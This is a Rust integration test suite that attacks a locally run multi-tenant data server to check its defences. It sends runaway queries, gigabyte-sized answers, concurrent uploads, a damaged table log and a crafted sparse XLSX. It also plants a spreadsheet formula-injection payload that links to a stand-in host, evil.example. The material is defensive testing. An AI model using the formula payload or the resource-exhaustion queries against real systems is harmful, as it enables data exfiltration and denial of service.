//! What an attacker with a tenant's account tried against a real `yishi serve` (the binary,
//! on an ephemeral loopback port, with its own warehouse and SQLite catalog): a runaway
//! query, a huge answer, formula cells in CSV downloads, six uploads at once, a damaged
//! table, server paths in `EXPLAIN`, other tenants' activity in headers, a crafted XLSX.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use axum::body::Bytes;
use http_body_util::{BodyExt, Full};
use hyper_util::client::legacy::Client;
use hyper_util::client::legacy::connect::HttpConnector;
use serde_json::{Value, json};

use crate::support::{files_under, runtime, yishi_bin};

const A1: &str = "141026100001";
const COUNTY_A: &str = "141026";

/// A `yishi serve` process over a warehouse of its own, killed when dropped.
pub(crate) struct Server {
    child: Child,
    pub(crate) base: String,
    dir: tempfile::TempDir,
    pub(crate) platform: String,
    pub(crate) county: String,
    pub(crate) community: String,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn run(args: &[&str]) -> String {
    let out = Command::new(yishi_bin())
        .args(args)
        .env_remove("YISHI_CATALOG")
        .env_remove("YISHI_COUNTY")
        .env_remove("YISHI_COMMUNITY")
        .env_remove("YISHI_WAREHOUSE")
        .env("YISHI_USER", "hardening")
        .output()
        .expect("run yishi");
    assert!(out.status.success(), "yishi {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn token(root: &str, scope: &[&str]) -> String {
    let mut args = vec!["token", "create", "--warehouse", root];
    args.extend_from_slice(scope);
    run(&args).trim_end().lines().last().expect("token line").to_string()
}

impl Server {
    /// The hand-made ledger of `tests/fixtures/analyses` in a new warehouse, served with
    /// `extra` options.
    pub(crate) fn start(extra: &[&str]) -> Server {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().join("wh");
        let root_text = root.to_str().expect("utf-8").to_string();
        run(&["init", "--warehouse", &root_text]);
        let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/analyses");
        for table in ["communities", "cadres", "sessions", "topics", "evaluations", "rectifications"] {
            let file = fixtures.join(format!("{table}.csv"));
            run(&["ingest", table, file.to_str().expect("utf-8"), "--warehouse", &root_text]);
        }
        let platform = token(&root_text, &["--platform"]);
        let county = token(&root_text, &["--county", COUNTY_A]);
        let community = token(&root_text, &["--community", A1]);
        let port = std::net::TcpListener::bind("127.0.0.1:0").and_then(|l| l.local_addr()).expect("port").port();
        let listen = format!("127.0.0.1:{port}");
        let mut args = vec!["serve", "--warehouse", &root_text, "--listen", &listen];
        args.extend_from_slice(extra);
        let child = Command::new(yishi_bin())
            .args(&args)
            .env_remove("YISHI_CATALOG")
            .env("RUST_LOG", "warn")
            .stdout(Stdio::null())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("start yishi serve");
        let server = Server { child, base: format!("http://{listen}"), dir, platform, county, community };
        let deadline = Instant::now() + Duration::from_secs(60);
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "yishi serve did not start");
            std::thread::sleep(Duration::from_millis(100));
        }
        server
    }

    fn root(&self) -> PathBuf {
        self.dir.path().join("wh")
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }
}

/// An answer: status, headers, body.
#[derive(Debug)]
struct Answer {
    status: u16,
    headers: axum::http::HeaderMap,
    body: Vec<u8>,
}

impl Answer {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body)
            .unwrap_or_else(|_| panic!("not JSON ({}): {}", self.status, String::from_utf8_lossy(&self.body)))
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

type Http = Client<HttpConnector, Full<Bytes>>;

fn client() -> Http {
    Client::builder(hyper_util::rt::TokioExecutor::new()).build(HttpConnector::new())
}

async fn send(http: &Http, method: &str, url: &str, token: &str, body: Vec<u8>, ctype: &str) -> Answer {
    let request = axum::http::Request::builder()
        .method(method)
        .uri(url)
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", ctype)
        .body(Full::new(Bytes::from(body)))
        .expect("request");
    let response = http.request(request).await.expect("the server answers");
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    let body = response.into_body().collect().await.expect("body").to_bytes().to_vec();
    Answer { status, headers, body }
}

async fn get(http: &Http, url: &str, token: &str) -> Answer {
    send(http, "GET", url, token, Vec::new(), "text/plain").await
}

async fn sql(http: &Http, server: &Server, token: &str, body: Value) -> Answer {
    send(http, "POST", &format!("{}/api/v1/sql", server.base), token, body.to_string().into_bytes(), "application/json")
        .await
}

/// CPU seconds the process has used (user + system), from /proc.
fn cpu_seconds(pid: u32) -> f64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).expect("proc stat");
    // Fields after the command name (which may hold spaces) start after ") ".
    let rest = &stat[stat.rfind(") ").expect("stat format") + 2..];
    let fields: Vec<&str> = rest.split_whitespace().collect();
    let ticks: f64 = fields[11].parse::<f64>().expect("utime") + fields[12].parse::<f64>().expect("stime");
    ticks / 100.0
}

/// Peak resident memory of the process, in MiB.
fn peak_rss_mib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("proc status");
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).expect("VmHWM");
    line.split_whitespace().nth(1).and_then(|kb| kb.parse::<u64>().ok()).expect("kB") / 1024
}

/// Two queries that would run for minutes are cancelled at the 5-second timeout, with
/// `/healthz` answering in well under a second meanwhile, and the server's CPU is free
/// again right after.
#[test]
fn runaway_queries_are_cancelled_and_the_server_stays_responsive() {
    let server = Server::start(&["--request-timeout", "5"]);
    runtime().block_on(async {
        let http = client();
        let heavy = json!({"sql": "SELECT sum(a.value * b.value) FROM range(0, 300000) a, range(0, 300000) b"});
        let started = Instant::now();
        let queries: Vec<_> = (0..2)
            .map(|_| {
                let (http, body, token) = (http.clone(), heavy.clone(), server.community.clone());
                let url = format!("{}/api/v1/sql", server.base);
                tokio::spawn(async move {
                    let answer =
                        send(&http, "POST", &url, &token, body.to_string().into_bytes(), "application/json").await;
                    (answer, started.elapsed())
                })
            })
            .collect();
        tokio::time::sleep(Duration::from_millis(1500)).await;
        let mut slowest = Duration::ZERO;
        for _ in 0..5 {
            let asked = Instant::now();
            let health = get(&http, &format!("{}/healthz", server.base), "").await;
            slowest = slowest.max(asked.elapsed());
            assert_eq!(health.status, 200, "{}", health.text());
            tokio::time::sleep(Duration::from_millis(300)).await;
        }
        assert!(slowest < Duration::from_secs(1), "/healthz took {slowest:?} while two heavy queries ran");
        for query in queries {
            let (answer, took) = query.await.expect("query task");
            assert_eq!(answer.status, 503, "{}", answer.text());
            assert_eq!(answer.json()["code"], "timeout", "{}", answer.text());
            assert!(answer.json()["message"].as_str().unwrap_or_default().contains("秒"), "{}", answer.text());
            assert!(took < Duration::from_secs(7), "the timeout of 5 s answered after {took:?}");
        }
        // The queries' work stopped: the idle server uses almost no CPU now.
        tokio::time::sleep(Duration::from_millis(500)).await;
        let before = cpu_seconds(server.pid());
        tokio::time::sleep(Duration::from_secs(2)).await;
        let used = cpu_seconds(server.pid()) - before;
        assert!(used < 0.3, "the server used {used:.2} CPU s in the 2 s after the queries were cancelled");
        // And it still answers queries.
        let small =
            sql(&http, &server, &server.community, json!({"sql": "SELECT count(*) AS n FROM range(0, 1000)"})).await;
        assert_eq!(small.json()["rows"][0][0], 1000, "{}", small.text());
        // A series beyond the cap is refused before anything is generated.
        let huge =
            sql(&http, &server, &server.community, json!({"sql": "SELECT count(*) FROM range(0, 100000000000)"})).await;
        assert_eq!(huge.status, 400, "{}", huge.text());
        assert!(huge.json()["message"].as_str().unwrap_or_default().contains("超过上限"), "{}", huge.text());
    });
}

/// A query whose answer would be gigabytes is cut at the answer's byte cap, says so, and
/// the server's memory stays bounded; a CSV answer is cut at the row cap.
#[test]
fn huge_answers_are_cut_within_memory() {
    let server = Server::start(&["--query-memory", "256MiB", "--max-sql-size", "16MiB", "--max-sql-rows", "50000"]);
    runtime().block_on(async {
        let http = client();
        // Five kilobytes a row, a gigabyte in all: cut at 16 MiB.
        let wide = sql(
            &http,
            &server,
            &server.community,
            json!({"sql": "SELECT repeat('x', 5000) AS x FROM range(0, 200000)"}),
        )
        .await;
        assert_eq!(wide.status, 200, "{}", wide.text());
        let v = wide.json();
        assert_eq!(v["truncated"], true);
        assert_eq!(v["truncated_by"], "bytes");
        let rows = v["row_count"].as_u64().expect("row count");
        assert!((3000..=3356).contains(&rows), "16 MiB of 5,004-byte rows is 3,352 rows, got {rows}");
        assert!(v["message"].as_str().unwrap_or_default().contains("16 MiB"), "{}", v["message"]);
        // A hundred kilobytes a row: 800 MB for one batch, refused before it is built.
        let wider = sql(
            &http,
            &server,
            &server.community,
            json!({"sql": "SELECT repeat('x', 100000) AS x FROM range(0, 15000)"}),
        )
        .await;
        assert_eq!((wider.status, wider.json()["code"].as_str()), (400, Some("value_too_large")), "{}", wider.text());
        let peak = peak_rss_mib(server.pid());
        assert!(peak < 1024, "the server's peak memory was {peak} MiB for a 16 MiB answer");

        let long = send(
            &http,
            "POST",
            &format!("{}/api/v1/sql", server.base),
            &server.community,
            json!({"sql": "SELECT value FROM range(0, 5000000)", "format": "csv"}).to_string().into_bytes(),
            "application/json",
        )
        .await;
        assert_eq!(long.status, 200);
        let lines = long.text().lines().count();
        assert_eq!(lines, 50_001, "header and the 50,000 rows of the cap");
        let cut = long.headers.get("x-yishi-truncated").and_then(|v| v.to_str().ok()).unwrap_or_default().to_string();
        assert!(cut.starts_with("rows"), "x-yishi-truncated: {cut}");
    });
}

/// A name that a spreadsheet would run as a formula comes back as text in every CSV: a
/// report, a SQL answer and a rejects file; negative numbers stay numbers.
#[test]
fn csv_downloads_carry_no_formulas() {
    let server = Server::start(&[]);
    runtime().block_on(async {
        let http = client();
        let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")";
        let community = format!(
            "community_code,community_name,county_code,county_name,town_name,households,residents,party_members\n\
             141026100009,\"{}\",141026,甲县,东镇,10,20,1\n",
            evil.replace('"', "\"\"")
        );
        let url = format!("{}/api/v1/ingest/communities?filename=c.csv", server.base);
        let up = send(&http, "POST", &url, &server.platform, community.into_bytes(), "text/csv").await;
        assert_eq!(up.status, 200, "{}", up.text());

        let q = json!({"sql": "SELECT community_name, -3 AS n, '-2+3' AS f, '@x' AS a FROM communities WHERE community_code = '141026100009'", "format": "csv"});
        let answer = sql(&http, &server, &server.platform, q).await;
        let text = answer.text();
        let row = text.lines().nth(1).expect("a row");
        assert!(row.starts_with("\"'=HYPERLINK("), "{row}");
        assert!(row.contains(",-3,'-2+3,'@x"), "{row}");

        let report = get(&http, &format!("{}/api/v1/reports/communities?year=2025&format=csv", server.base), &server.platform).await;
        assert_eq!(report.status, 200, "{}", report.text());
        for line in report.text().lines() {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches(['\u{feff}', '"']);
                assert!(!cell.starts_with(['=', '+', '@']), "a formula cell in the report CSV: {line}");
            }
        }

        // A rejected row whose cells begin with '=': the rejects file holds them as text.
        let topics = format!(
            "community_code,topic_id,session_id,title,category,channel,raised_on,lead_cadre_id,handling_mode,units,deadline,status,closed_on,publicized_on,publicity_channel\n\
             {A1},TX1,S1,=1+2,infrastructure,hotline,2025-13-45,K1,self,,2025-11-30,resolved,2025-11-20,,\n"
        );
        let url = format!("{}/api/v1/ingest/topics?filename=t.csv", server.base);
        let refused = send(&http, "POST", &url, &server.community, topics.into_bytes(), "text/csv").await;
        assert_eq!(refused.status, 422, "{}", refused.text());
        let rejects_url = refused.json()["rejects_csv_url"].as_str().expect("rejects url").to_string();
        let rejects = get(&http, &format!("{}{rejects_url}", server.base), &server.community).await;
        assert!(rejects.text().contains(",'=1+2,"), "{}", rejects.text());
    });
}

/// Six uploads to one table at once: each commits (or, were another process writing,
/// would answer 409), every row of every committed upload is there, and no data file is
/// left that the table's log does not name.
#[test]
fn simultaneous_uploads_all_commit_without_orphans() {
    let server = Server::start(&[]);
    let header = "community_code,topic_id,session_id,title,category,channel,raised_on,lead_cadre_id,handling_mode,units,deadline,status,closed_on,publicized_on,publicity_channel";
    runtime().block_on(async {
        let http = client();
        let before = sql(&http, &server, &server.platform, json!({"sql": "SELECT count(*) FROM topics"})).await.json()["rows"][0][0]
            .as_i64()
            .expect("count");
        let uploads: Vec<_> = (0..6)
            .map(|i| {
                let mut file = format!("{header}\n");
                for j in 0..3 {
                    file.push_str(&format!(
                        "{A1},TP{i}{j},S1,并发上传{i}-{j},infrastructure,hotline,2025-03-0{},K1,self,,2025-04-30,in_progress,,,\n",
                        j + 1
                    ));
                }
                let (http, token) = (http.clone(), server.community.clone());
                let url = format!("{}/api/v1/ingest/topics?filename=p{i}.csv", server.base);
                tokio::spawn(async move { send(&http, "POST", &url, &token, file.into_bytes(), "text/csv").await })
            })
            .collect();
        let mut committed = 0;
        for upload in uploads {
            let answer = upload.await.expect("upload task");
            match answer.status {
                200 => {
                    assert_eq!(answer.json()["outcome"], "committed", "{}", answer.text());
                    committed += 1;
                }
                409 => {
                    assert_eq!(answer.json()["code"], "conflict");
                    assert!(answer.json()["message"].as_str().unwrap_or_default().contains("请重新上传"));
                }
                other => panic!("an upload answered {other}: {}", answer.text()),
            }
        }
        // This server is the only writer: it takes the uploads in turn, so all commit.
        assert_eq!(committed, 6);
        let after = sql(&http, &server, &server.platform, json!({"sql": "SELECT count(*) FROM topics"})).await.json()["rows"][0][0]
            .as_i64()
            .expect("count");
        assert_eq!(after, before + 18);
    });
    let table = server.root().join("topics");
    let mut named = std::collections::BTreeSet::new();
    for log in files_under(&table.join("_delta_log")).iter().filter(|p| p.extension().is_some_and(|e| e == "json")) {
        for line in std::fs::read_to_string(log).expect("log").lines() {
            let action: Value = serde_json::from_str(line).expect("log line");
            if let Some(path) = action["add"]["path"].as_str() {
                named.insert(percent_decoded(path));
            }
        }
    }
    for file in files_under(&table).iter().filter(|p| p.extension().is_some_and(|e| e == "parquet")) {
        let relative = file.strip_prefix(&table).expect("under the table").to_string_lossy().into_owned();
        assert!(named.contains(&relative), "{relative} is in no commit");
    }
}

/// A path of the Delta log (percent-encoded) as the file system names it.
fn percent_decoded(path: &str) -> String {
    let bytes = path.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        match (bytes[i], path.get(i + 1..i + 3).and_then(|h| u8::from_str_radix(h, 16).ok())) {
            (b'%', Some(b)) => {
                out.push(b);
                i += 3;
            }
            (b, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// A damaged table is named by `/healthz` (503), the rest of the server goes on; `EXPLAIN`
/// shows no server folders; table versions (which count every tenant's uploads) go only to
/// platform callers.
#[test]
fn damage_and_leaks_are_contained() {
    let server = Server::start(&[]);
    runtime().block_on(async {
        let http = client();
        let explain = sql(&http, &server, &server.community, json!({"sql": "EXPLAIN SELECT * FROM topics"})).await;
        assert_eq!(explain.status, 200, "{}", explain.text());
        let root = server.root().to_string_lossy().trim_start_matches('/').to_string();
        assert!(explain.text().contains("parquet"), "{}", explain.text());
        assert!(!explain.text().contains(&root), "EXPLAIN shows the server's folder: {}", explain.text());

        let report = |token: String| {
            let (http, url) = (http.clone(), format!("{}/api/v1/reports/quarterly?year=2025&quarter=1", server.base));
            async move { get(&http, &url, &token).await }
        };
        let county = report(server.county.clone()).await;
        assert_eq!(county.status, 200, "{}", county.text());
        assert!(county.headers.get("x-yishi-data-versions").is_none());
        let platform = report(server.platform.clone()).await;
        assert!(platform.headers.get("x-yishi-data-versions").is_some());

        let health = get(&http, &format!("{}/healthz", server.base), "").await;
        assert_eq!((health.status, health.json()["tables"]["rectifications"].as_str()), (200, Some("ok")));
        let log = server.root().join("rectifications/_delta_log");
        let last =
            files_under(&log).into_iter().rfind(|p| p.extension().is_some_and(|e| e == "json")).expect("a commit");
        std::fs::write(&last, b"{not json").expect("damage the log");
        let health = get(&http, &format!("{}/healthz", server.base), "").await;
        assert_eq!(health.status, 503, "{}", health.text());
        let v = health.json();
        assert_eq!(v["status"], "degraded");
        assert!(v["tables"]["rectifications"].as_str().unwrap_or_default().contains("整改"), "{v}");
        assert_eq!(v["tables"]["topics"], "ok");
        let me = get(&http, &format!("{}/api/v1/me", server.base), &server.county).await;
        assert_eq!(me.status, 200);
    });
}

/// A 1.6 KB workbook with cells at A1 and XFD1048576 (a dense grid of it would be 512 GiB)
/// uploaded by a community: refused with 422 and a Chinese message naming the cell, the
/// table unchanged, and the server answers afterwards with its memory bounded.
#[test]
fn a_sparse_dimension_workbook_is_refused_and_the_server_stays_up() {
    let server = Server::start(&[]);
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/hardening/sparse-dimension.xlsx");
    let bytes = std::fs::read(&fixture).expect("fixture");
    assert!(bytes.len() < 4096);
    runtime().block_on(async {
        let http = client();
        let count = |token: String| {
            let (http, url) = (http.clone(), format!("{}/api/v1/sql", server.base));
            async move {
                let body = json!({"sql": "SELECT count(*) FROM topics"}).to_string().into_bytes();
                send(&http, "POST", &url, &token, body, "application/json").await.json()["rows"][0][0].as_i64()
            }
        };
        let before = count(server.community.clone()).await;
        let url = format!("{}/api/v1/ingest/topics?filename=sparse.xlsx", server.base);
        let ctype = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
        let answer = send(&http, "POST", &url, &server.community, bytes, ctype).await;
        assert_eq!(answer.status, 422, "{}", answer.text());
        let v = answer.json();
        assert_eq!(v["code"], "sheet_out_of_range", "{v}");
        assert!(v["message"].as_str().unwrap_or_default().contains("XFD1048576"), "{v}");
        let health = get(&http, &format!("{}/healthz", server.base), "").await;
        assert_eq!(health.status, 200, "the server is down after the upload: {}", health.text());
        assert_eq!(count(server.community.clone()).await, before);
        let peak = peak_rss_mib(server.pid());
        assert!(peak < 512, "the server's peak memory was {peak} MiB for a 1.6 KB workbook");
    });
}
